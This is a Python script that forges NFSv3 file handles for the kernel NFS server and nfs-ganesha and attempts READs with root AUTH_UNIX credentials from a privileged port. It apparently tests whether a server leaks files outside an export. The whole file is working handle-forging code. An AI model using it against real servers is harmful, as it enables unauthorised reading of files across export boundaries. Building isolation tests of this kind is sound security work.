# Copyright: diskless.statelite contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Ask an NFSv3 server for a file by a handle that was never given to us (RFC 1813). Run on a node.

forge.py kernel SERVER SOURCE EXPORT INODE GENERATION PARENT PARENT_GENERATION
    the handle of EXPORT, which SOURCE may mount, with the number of another file put into it
forge.py ganesha SERVER SOURCE EXPORT OTHER_SOURCE OTHER_EXPORT PATH
    the handle that OTHER_SOURCE has for PATH in its own export, as it is, and with the number of SOURCE's EXPORT put into it

Says what the server answers when SOURCE READs by it: `read: CONTENT` or `refused: STATUS`.
"""

from __future__ import annotations

import random
import socket
import struct
import sys

PORTMAP, MOUNT, NFS = (100000, 2), (100005, 3), (100003, 3)
GETPORT, MNT, LOOKUP, READ = 3, 1, 3, 6
TCP = 6
FSID_BYTES = {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}
"""By the kind of file system number in a handle, its length (fs/nfsd/nfsfh.h)."""
INODE, INODE_AND_PARENT = 1, 2
STATUS = {0: "ok", 2: "NOENT", 13: "ACCES", 21: "ISDIR", 70: "STALE", 10001: "BADHANDLE"}


def opaque(data: bytes) -> bytes:
    """Return bytes as XDR has them (RFC 4506): their length, themselves, padded to four."""
    return struct.pack("!I", len(data)) + data + bytes(-len(data) % 4)


class Connection:
    """ONC RPC over TCP from a privileged port of one address, as root (RFC 5531)."""

    def __init__(self, server: str, port: int, source: str) -> None:
        for local in random.sample(range(600, 1023), 100):
            self.socket = socket.socket()
            self.socket.settimeout(30)
            try:
                self.socket.bind((source, local))
                self.socket.connect((server, port))
                return
            except OSError:
                self.socket.close()
        raise OSError(f"no connection to {server}:{port}")

    def take(self, length: int) -> bytes:
        taken = b""
        while len(taken) < length:
            piece = self.socket.recv(length - len(taken))
            if not piece:
                raise EOFError
            taken += piece
        return taken

    def call(self, program: tuple[int, int], procedure: int, arguments: bytes) -> bytes:
        """Return the result of a procedure; raises OSError, PermissionError for who we are, when the server does not carry it out."""
        credentials = struct.pack("!I", 0) + opaque(b"n1") + struct.pack("!III", 0, 0, 0)
        head = struct.pack("!IIIIII", 7, 0, 2, *program, procedure)
        message = head + struct.pack("!I", 1) + opaque(credentials) + struct.pack("!II", 0, 0) + arguments
        self.socket.sendall(struct.pack("!I", 0x80000000 | len(message)) + message)
        answer, last = b"", False
        while not last:
            (mark,) = struct.unpack("!I", self.take(4))
            last = bool(mark & 0x80000000)
            answer += self.take(mark & 0x7FFFFFFF)
        (denied,) = struct.unpack("!I", answer[8:12])
        if denied:
            raise PermissionError("credentials")
        (length,) = struct.unpack("!I", answer[16:20])
        (status,) = struct.unpack("!I", answer[20 + length : 24 + length])
        if status:
            raise OSError(f"the call was not carried out ({status})")
        return answer[24 + length :]


def port_of(server: str, source: str, program: tuple[int, int]) -> int:
    return int.from_bytes(Connection(server, 111, source).call(PORTMAP, GETPORT, struct.pack("!IIII", *program, TCP, 0)), "big")


def root_of(server: str, source: str, export: str) -> bytes:
    """Return the handle of an export's root, as mountd gives it to the one who may mount it."""
    answer = Connection(server, port_of(server, source, MOUNT), source).call(MOUNT, MNT, opaque(export.encode()))
    status, length = struct.unpack("!II", answer[:8])
    if status:
        raise OSError(f"mountd refuses {export}: {STATUS.get(status, status)}")
    return answer[8 : 8 + length]


def forged(root: bytes, kind: int, numbers: list[int]) -> bytes:
    """Return the handle of another file of the export's file system. Numbers in it are in the server's byte order: x86."""
    fsid = root[4 : 4 + FSID_BYTES[root[2]]]
    used = numbers if kind == INODE_AND_PARENT else numbers[:2]
    return bytes([root[0], root[1], root[2], kind]) + fsid + struct.pack(f"<{len(used)}I", *used)


def read(connection: Connection, handle: bytes) -> str:
    """Return what READ says."""
    try:
        answer = connection.call(NFS, READ, opaque(handle) + struct.pack("!QI", 0, 200))
    except PermissionError as error:
        return f"refused: {error}"
    (status,) = struct.unpack("!I", answer[:4])
    if status:
        return f"refused: {STATUS.get(status, status)}"
    attributes = 88 if struct.unpack("!I", answer[4:8])[0] else 4
    (length,) = struct.unpack("!I", answer[4 + attributes + 8 : 4 + attributes + 12])
    return f"read: {answer[16 + attributes : 16 + attributes + length].decode(errors='replace').strip()}"


def found(server: str, source: str, export: str, path: str) -> bytes:
    """Return the handle of a file, as somebody gets it who may."""
    connection = Connection(server, port_of(server, source, NFS), source)
    handle = root_of(server, source, export)
    for name in path.strip("/").split("/"):
        answer = connection.call(NFS, LOOKUP, opaque(handle) + opaque(name.encode()))
        status, length = struct.unpack("!II", answer[:8])
        if status:
            raise OSError(f"LOOKUP of {name}: {STATUS.get(status, status)}")
        handle = answer[8 : 8 + length]
    return handle


def made_for_kernel(server: str, source: str, export: str, numbers: list[str]) -> dict[str, bytes]:
    """Return the handles to try with the kernel's server."""
    root = root_of(server, source, export)
    kinds = {"inode": INODE, "inode and parent": INODE_AND_PARENT}
    return {name: forged(root, kind, [int(word) for word in numbers]) for name, kind in kinds.items()}


def made_for_ganesha(server: str, source: str, export: str, other: list[str]) -> dict[str, bytes]:
    """Return the handles to try with nfs-ganesha, in which bytes 2 and 3 are the number of the export (include/nfs_fh.h)."""
    root, handle = root_of(server, source, export), found(server, *other)
    return {"as it is": handle, "export replaced": handle[:2] + root[2:4] + handle[4:]}


def main() -> None:
    kind, server, source, export, *rest = sys.argv[1:]
    handles = {"kernel": made_for_kernel, "ganesha": made_for_ganesha}[kind](server, source, export, rest)
    port = port_of(server, source, NFS)
    for name, handle in handles.items():
        print(f"{name}: {read(Connection(server, port, source), handle)}")


if __name__ == "__main__":
    main()
